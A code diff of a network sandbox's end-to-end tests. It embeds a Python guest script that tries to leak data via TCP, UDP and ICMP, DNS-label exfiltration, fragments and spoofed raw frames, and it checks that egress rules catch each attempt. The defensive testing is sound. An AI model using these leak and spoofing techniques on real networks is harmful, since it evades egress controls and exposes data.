@@ -10,9 +10,12 @@
 #include <unistd.h>
 
 #include <array>
+#include <atomic>
 #include <cerrno>
 #include <csignal>
 #include <filesystem>
+#include <future>
+#include <map>
 #include <nlohmann/json.hpp>
 #include <sstream>
 #include <string>
@@ -80,6 +83,7 @@ class Sniffer final {
 constexpr const char* kHostile = R"(
 import socket, struct, time
 SERVER4, SERVER6 = "198.18.0.1", "fd01::1"
+V4, V6 = socket.AF_INET, socket.AF_INET6
 
 def expect(**event):
     print(" ".join(f"{k}={v}" for k, v in event.items()), flush=True)
@@ -109,7 +113,8 @@ def udp(family, address, port, data=b"leak", name=None):
 
 def question(name):
     labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
-    return struct.pack(">HHHHHH", 4660, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 16, 1)
+    head = struct.pack(">HHHHHH", 4660, 256, 1, 0, 0, 0)
+    return head + labels + b"\0" + struct.pack(">HH", 16, 1)
 
 def checksum(data):
     if len(data) % 2: data += b"\0"
@@ -124,7 +129,7 @@ def udp4(source, destination, port):
     return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body
 
 def udp6(source, destination, port):
-    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, destination)
+    addresses = b"".join(socket.inet_pton(V6, a) for a in (source, destination))
     body = struct.pack(">HHHH", 4000, port, 12, 0) + b"leak"
     sum6 = checksum(addresses + struct.pack(">II", len(body), 17) + body)
     body = body[:6] + struct.pack(">H", sum6) + body[8:]
@@ -139,13 +144,12 @@ def frame(kind, packet, mac=own_mac):
 def ping(family, address):
     kind = socket.IPPROTO_ICMP if family == socket.AF_INET else socket.IPPROTO_ICMPV6
     with socket.socket(family, socket.SOCK_RAW, kind) as s:
-        message = struct.pack(">BBHHH", 8 if family == socket.AF_INET else 128, 0, 0, 77, 1) + b"leak"
+        message = struct.pack(">BBHHH", 8 if family == V4 else 128, 0, 0, 77, 1) + b"leak"
         if family == socket.AF_INET:
             message = message[:2] + struct.pack(">H", checksum(message)) + message[4:]
         s.sendto(message, (address, 0))
     expect(protocol="icmp", peer=f"[{address}]:0" if ":" in address else f"{address}:0")
 
-V4, V6 = socket.AF_INET, socket.AF_INET6
 # What every program may try.
 tcp(V4, SERVER4, 1001); tcp(V6, SERVER6, 1002)
 udp(V4, SERVER4, 1003); udp(V6, SERVER6, 1004)
@@ -168,14 +172,22 @@ udp(V4, SERVER4, 53, question("c2VjcmV0.five.test")); tcp(V6, SERVER6, 53)
 # In fragments.
 udp(V4, SERVER4, 1010, b"leak" * 1000); udp(V6, SERVER6, 1011, b"leak" * 1000)
 # As somebody else, to where nobody can be, past the kernel.
-frame(0x0800, udp4("10.0.2.99", SERVER4, 1012)); expect(peer=f"{SERVER4}:1012", layer="link")
-frame(0x0800, udp4("198.18.0.77", SERVER4, 1013)); expect(peer=f"{SERVER4}:1013", layer="link")
-frame(0x86dd, udp6("2001:db8::9", SERVER6, 1014)); expect(peer=f"[{SERVER6}]:1014", layer="link")
-frame(0x0800, udp4("10.0.2.15", SERVER4, 1015), b"\x02\x00\x00\x00\x00\x09"); expect(peer=f"{SERVER4}:1015", layer="link")
-frame(0x86dd, udp6("fd00::15", "::ffff:198.18.0.1", 1016)); expect(peer="[::ffff:198.18.0.1]:1016", layer="address")
-frame(0x86dd, udp6("fd00::15", "::1", 1017)); expect(peer="[::1]:1017", layer="address")
-frame(0x0800, udp4("10.0.2.15", "127.0.0.1", 1018)); expect(peer="127.0.0.1:1018", layer="address")
-frame(0x0800, udp4("10.0.2.15", "169.254.7.7", 1019)); expect(peer="169.254.7.7:1019", layer="address")
+def false4(source, destination, port, layer, mac=own_mac):
+    frame(0x0800, udp4(source, destination, port), mac)
+    expect(peer=f"{destination}:{port}", layer=layer)
+
+def false6(source, destination, port, layer):
+    frame(0x86dd, udp6(source, destination, port))
+    expect(peer=f"[{destination}]:{port}", layer=layer)
+
+false4("10.0.2.99", SERVER4, 1012, "link")
+false4("198.18.0.77", SERVER4, 1013, "link")
+false6("2001:db8::9", SERVER6, 1014, "link")
+false4("10.0.2.15", SERVER4, 1015, "link", bytes.fromhex("020000000009"))
+false6("fd00::15", "::ffff:198.18.0.1", 1016, "address")
+false6("fd00::15", "::1", 1017, "address")
+false4("10.0.2.15", "127.0.0.1", 1018, "address")
+false4("10.0.2.15", "169.254.7.7", 1019, "address")
 time.sleep(0.3)  # the last of the frames are on their way
 print("DONE", flush=True)
 )";
@@ -425,44 +437,30 @@ class Replaced : public ::testing::TestWithParam<SandboxCase> {
     words.push_back(folder_ / "rules");
     return RunCommand(words);
   }
-};
-
-INSTANTIATE_TEST_SUITE_P(E2e, Replaced, ::testing::ValuesIn(PenstockCases()), CaseName);
-
-TEST_P(Replaced, NewFlowsSeeItDeniedOnesAreCutOthersAreNotTouched) {
-  const Family family = GetParam().family;
-  TcpListener kept, cut;
   struct Pair {
     TcpSocket guest, host;
   };
-  const auto open = [&](TcpListener& listener) {
-    TcpSocket guest = sandbox_.GuestSocket(family);
-    guest.Connect(Sandbox::Gateway(family, listener.port()));
-    return Pair{std::move(guest), listener.Accept()};
-  };
-  std::vector<Pair> kept_pairs, cut_pairs;
-  for (int i = 0; i < kEach; ++i) {
-    kept_pairs.push_back(open(kept));
-    cut_pairs.push_back(open(cut));
+  Pair Open(TcpListener& listener) {
+    TcpSocket guest = sandbox_.GuestSocket(GetParam().family);
+    guest.Connect(Sandbox::Gateway(GetParam().family, listener.port()));
+    return {std::move(guest), listener.Accept()};
   }
-  constexpr uint64_t kBytes = 24 << 20;
-  std::atomic<int> half_way{0};
-  std::vector<std::future<void>> transfers;
-  for (int i = 0; i < kEach; ++i) {
-    const Stream up{.seed = static_cast<uint64_t>(2 * i), .bytes = kBytes};
-    const Stream down{.seed = static_cast<uint64_t>(2 * i + 1), .bytes = kBytes};
-    transfers.push_back(Concurrently([&, i, up, down] {
-      Perform(kept_pairs[static_cast<size_t>(i)].guest,
-              {.send = up, .receive = down, .hook_after = kBytes / 8, .hook = [&] { ++half_way; }});
+  // Both ways, whole; `half_way` is counted when some of it is through.
+  void StartTransfer(Pair& pair, uint64_t seed) {
+    constexpr uint64_t kBytes = 24 << 20;
+    const Stream up{.seed = 2 * seed, .bytes = kBytes};
+    const Stream down{.seed = 2 * seed + 1, .bytes = kBytes};
+    tasks_.push_back(Concurrently([this, &pair, up, down] {
+      Perform(pair.guest, {.send = up, .receive = down, .hook_after = kBytes / 8, .hook = [this] {
+                             ++half_way_;
+                           }});
     }));
-    transfers.push_back(Concurrently([&, i, up, down] {
-      Perform(kept_pairs[static_cast<size_t>(i)].host, {.send = down, .receive = up});
-    }));
+    tasks_.push_back(
+        Concurrently([&pair, up, down] { Perform(pair.host, {.send = down, .receive = up}); }));
   }
-  std::vector<std::future<int>> ends;
-  for (Pair& pair : cut_pairs) {
-    // Sends until it is reset; the errno of that.
-    ends.push_back(Concurrently([&] {
+  // From the guest without an end, until it is reset at both.
+  void StartEndless(Pair& pair) {
+    ends_.push_back(Concurrently([&pair] {
       const std::vector<uint8_t> bytes(65'536);
       try {
         for (;;) (void)pair.guest.Send(bytes);
@@ -470,7 +468,7 @@ TEST_P(Replaced, NewFlowsSeeItDeniedOnesAreCutOthersAreNotTouched) {
         return error.code().value();
       }
     }));
-    transfers.push_back(Concurrently([&] {
+    tasks_.push_back(Concurrently([&pair] {
       std::vector<uint8_t> bytes(65'536);
       try {
         while (pair.host.Receive(bytes) != 0) continue;
@@ -480,24 +478,43 @@ TEST_P(Replaced, NewFlowsSeeItDeniedOnesAreCutOthersAreNotTouched) {
       throw std::runtime_error("a cut transfer looks like a whole one");
     }));
   }
-  while (half_way < kEach) usleep(1'000);
+
+  std::atomic<int> half_way_{0};
+  std::vector<std::future<void>> tasks_;
+  std::vector<std::future<int>> ends_;  // the errno
+};
+
+INSTANTIATE_TEST_SUITE_P(E2e, Replaced, ::testing::ValuesIn(PenstockCases()), CaseName);
+
+TEST_P(Replaced, NewFlowsSeeItDeniedOnesAreCutOthersAreNotTouched) {
+  TcpListener kept, cut;
+  std::vector<Pair> kept_pairs, cut_pairs;
+  for (int i = 0; i < kEach; ++i) {
+    kept_pairs.push_back(Open(kept));
+    cut_pairs.push_back(Open(cut));
+  }
+  for (size_t i = 0; i < kEach; ++i) {
+    StartTransfer(kept_pairs[i], i);
+    StartEndless(cut_pairs[i]);
+  }
+  while (half_way_ < kEach) usleep(1'000);
 
   const std::string rule =
-      "deny egress @host:" + std::to_string(cut.port()) + "\n" + "default egress allow\n";
-  const CommandResult set = Set(rule, {"--reset"});
+      "deny egress @host:" + std::to_string(cut.port()) + "\ndefault egress allow\n";
+  const CommandResult set =
+      Set("allow egress @host:" + std::to_string(kept.port()) + "\n" + rule, {"--reset"});
   ASSERT_EQ(set.status, 0) << set.output;
-  TcpSocket fresh = sandbox_.GuestSocket(family);
-  EXPECT_EQ(fresh.TryConnect(Sandbox::Gateway(family, cut.port())), ECONNREFUSED);
-  for (auto& end : ends) {
+  TcpSocket fresh = sandbox_.GuestSocket(GetParam().family);
+  EXPECT_EQ(fresh.TryConnect(Sandbox::Gateway(GetParam().family, cut.port())), ECONNREFUSED);
+  for (auto& end : ends_) {
     const int error = end.get();
     EXPECT_TRUE(error == ECONNRESET || error == EPIPE) << error;
   }
-  for (auto& transfer : transfers) transfer.get();
-  const Stats stats = sandbox_.ReadStats();
-  EXPECT_EQ(stats["flows_cut"], static_cast<uint64_t>(kEach));
+  for (auto& task : tasks_) task.get();
+  EXPECT_EQ(sandbox_.ReadStats()["flows_cut"], static_cast<uint64_t>(kEach));
   // And back again.
-  ASSERT_EQ(Set("default egress allow\n", {}).status, 0);
-  Pair again = open(cut);
+  ASSERT_EQ(Set("allow egress @host\ndefault egress allow\n", {}).status, 0);
+  Pair again = Open(cut);
   again.guest.SendAll("hello");
   again.guest.ShutdownSending();
   EXPECT_EQ(again.host.ReceiveToEnd(), "hello");
